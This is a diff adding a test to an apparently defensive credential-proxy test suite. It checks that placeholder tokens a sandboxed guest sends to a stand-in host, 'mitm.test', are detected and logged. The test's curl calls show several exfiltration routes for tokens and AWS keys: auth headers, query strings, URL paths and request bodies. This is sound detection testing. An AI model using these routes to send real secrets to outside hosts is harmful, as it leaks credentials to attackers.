@@ -1,5 +1,6 @@
 """Placeholders: what a guest's tools find where they look for a credential, and that it is none."""
 
+import base64
 import json
 import re
 
@@ -69,3 +70,32 @@ def test_environment_is_for_those_who_may_start_commands():
                              "guest", "environment", "g1"])
         equal((done.returncode, done.stdout), (4, ""), done.stderr)
         equal(len(environment(lab)), 4, "the control")
+
+
+def test_placeholder_on_its_way_to_where_it_does_not_belong_is_reported_and_passed_on():
+    rules = (RULE, 'mitm.test http: [{paths: ["/**"]}]')
+    with Lab(policy(*rules), guests=("g1", "g2"), credentials=KEYS) as lab:
+        lab.guest.trust_enforcer()
+        found = environment(lab)
+
+        def strayed():
+            return lab.enforcer.metric("enforcer_placeholders_strayed_total", credential="token")
+        equal(lab.guest.curl("https://cred.test/", "-H", f"Authorization: Bearer {found['GH_TOKEN']}").status, 200)
+        equal(lab.guest.curl("https://mitm.test/", "-H", "Authorization: Bearer of-somebody").status, 200)
+        equal(strayed(), 0, "the control: where it belongs, and what is none")
+        encoded = base64.b64encode(f"bot:{found['KEY']}".encode()).decode()
+        ways = [("/", "-H", f"Authorization: Bearer {found['GH_TOKEN']}"), ("/", "-H", f"Authorization: Basic {encoded}"),
+                (f"/x?key={found['KEY']}",), (f"/{found['KEY']}",), ("/", "-d", f"a={found['AWS_SECRET_ACCESS_KEY']}"),
+                ("/", "-H", "Transfer-Encoding: chunked", "-d", f"id={found['AWS_ACCESS_KEY_ID']}")]
+        for count, (path, *options) in enumerate(ways, 1):
+            for version in ("--http1.1", "--http2"):
+                equal(lab.guest.curl(f"https://mitm.test{path}", version, *options).status, 200, f"{path} {options}")
+            equal(strayed(), 2 * count, f"{path} {options}")
+        equal(lab.guest.curl("https://cred.test/", "-d", found["KEY"]).status, 200)
+        equal(strayed(), 2 * len(ways) + 1, "where its credential goes, but in another place")
+        heads = [event["head"] for event in lab.world.events(event="request") if event["listener"].startswith("93.184.216.40")]
+        equal(sum(found["GH_TOKEN"] in head for head in heads), 2, "it is passed on")
+        records = lab.enforcer.records(type="event", event="placeholder_strayed")
+        assert {record["detail"] for record in records} >= {"GH_TOKEN (credential token) in a request to mitm.test",
+                                                            "KEY (credential token) in a request to cred.test"}, records
+        equal({record["guest"] for record in records}, {"g1"})
